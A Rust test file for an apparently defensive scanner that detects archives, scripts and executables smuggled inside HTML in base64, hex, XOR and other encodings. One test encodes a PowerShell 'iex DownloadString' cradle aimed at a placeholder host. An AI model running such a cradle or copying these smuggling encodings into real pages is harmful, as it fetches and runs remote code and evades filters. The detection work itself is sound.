use super::*;
use crate::artifact::Tree;
use crate::limits::Limits;
use crate::zip::writer::{archive, stored};

/// The kinds of what is found in a text of that name.
fn found(name: &str, bytes: &[u8]) -> Vec<&'static str> {
    let tree = Tree::new(Child::new(name, "attachment", bytes.to_vec()));
    let mut out = Opened::default();
    let artifact = tree.get(0).unwrap();
    if Encoded.matches(artifact) {
        Encoded.open(artifact, &Keyring::new(), &mut out, &mut Budget::new(&Limits::default())).unwrap();
    }
    out.children.iter().map(|child| child.kind.map_or("", |kind| kind.id)).collect()
}

pub(in crate::code) fn to_base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let word =
            chunk.iter().fold(0u32, |word, byte| word << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for place in 0..4 {
            let letter = char::from(LETTERS[(word >> (18 - 6 * place)) as usize & 63]);
            out.push(if place <= chunk.len() { letter } else { '=' });
        }
    }
    out
}

fn sample() -> Vec<u8> {
    archive(&[stored("a.js", b"var a = 'inert';")])
}

fn listed(bytes: &[u8], write: impl Fn(u8) -> String, between: &str) -> String {
    bytes.iter().map(|byte| write(*byte)).collect::<Vec<_>>().join(between)
}

#[test]
fn files_are_found_however_they_are_written() {
    let zip = sample();
    let base64 = to_base64(&zip);
    let backwards: String = base64.chars().rev().collect();
    let wrapped: String =
        base64.as_bytes().chunks(64).map(|line| format!("{}\r\n", str::from_utf8(line).unwrap())).collect();
    let keyed: Vec<u8> = zip.iter().map(|byte| byte ^ 0x41).collect();
    for text in [
        base64.clone(),
        backwards,
        wrapped,
        listed(&zip, |byte| byte.to_string(), ","),
        listed(&zip, |byte| byte.to_string(), ", "),
        listed(&zip, |byte| format!("\\x{byte:02x}"), ""),
        listed(&zip, |byte| format!("%{byte:02X}"), ""),
        listed(&zip, |byte| format!("0x{byte:x}"), ","),
        listed(&zip, |byte| format!("&H{byte:X}"), ", "),
        listed(&zip, |byte| format!("\\u00{byte:02x}"), ""),
        listed(&zip, |byte| format!("{byte:02x}"), ""),
        listed(&zip, |byte| (u32::from(byte) + 700).to_string(), ","),
        listed(&keyed, |byte| byte.to_string(), ","),
        format!("{}'; x ^ 65", to_base64(&keyed)),
    ] {
        let page = format!("<html><script>var d = '{text}';</script>");
        assert_eq!(found("a.html", page.as_bytes()), ["zip"], "{text}");
    }
    assert_eq!(found("a.txt", format!("-----BEGIN CERTIFICATE-----\n{base64}\n").as_bytes()), ["zip"]);
}

#[test]
fn pages_and_scripts_are_found_and_pictures_are_not() {
    let rows: &[(&[u8], &[&str])] = &[
        (b"<html><form action='https://a.example/x.php'></form></html>", &["html"]),
        (b"document.write('a'); window.location = 'https://a.example';", &["js"]),
        (b"https://login.example/path/to/page?user=someone@receiver.example", &["script-texts"]),
        (b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", &[]),
        (b"Only some words that a person wrote down here, nothing else.", &[]),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h24v24H0z'/></svg>", &[]),
    ];
    for (bytes, want) in rows {
        let page = format!("<html><script>var d = \"{}\";</script>", to_base64(bytes));
        assert_eq!(found("a.html", page.as_bytes()), *want, "{bytes:?}");
    }
    let wide: Vec<u8> = "iex (New-Object Net.WebClient).DownloadString('http://a.example')"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_eq!(found("a.bat", format!("powershell -e {}", to_base64(&wide)).as_bytes()), ["ps1"]);
}

#[test]
fn a_program_under_a_repeating_key_shows_it() {
    let mut program = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    program.extend([0; 1200]);
    program[0x3c] = 0x80;
    program[0x80..0x84].copy_from_slice(b"PE\0\0");
    let keyed: Vec<u8> = program.iter().zip(b"k3y!x".iter().cycle()).map(|(byte, key)| byte ^ key).collect();
    let page = format!("<html><script>var d = '{}'; d.charCodeAt(1) ^ k;", to_base64(&keyed));
    assert_eq!(found("a.html", page.as_bytes()), ["exe"]);
}

#[test]
fn hostile_texts_end() {
    let zip = to_base64(&sample());
    let page = format!("<html>{zip} \\x50\\x4b %50 0x1,2 &#12;");
    for length in 0..page.len() {
        found("a.html", &page.as_bytes()[..length]);
        let mut bytes = page.clone().into_bytes();
        bytes[length] ^= 1 << (length % 8);
        found("a.html", &bytes);
    }
    assert!(found("a.html", format!("<html>{}", format!("'{zip}' ").repeat(99)).as_bytes()).len() <= MOST);
    for piece in ["1,", "\\x4", "%4", "A\n", "&#", "99999999999,", "0x"] {
        found("a.html", format!("<html>{}", piece.repeat(200_000)).as_bytes());
    }
}
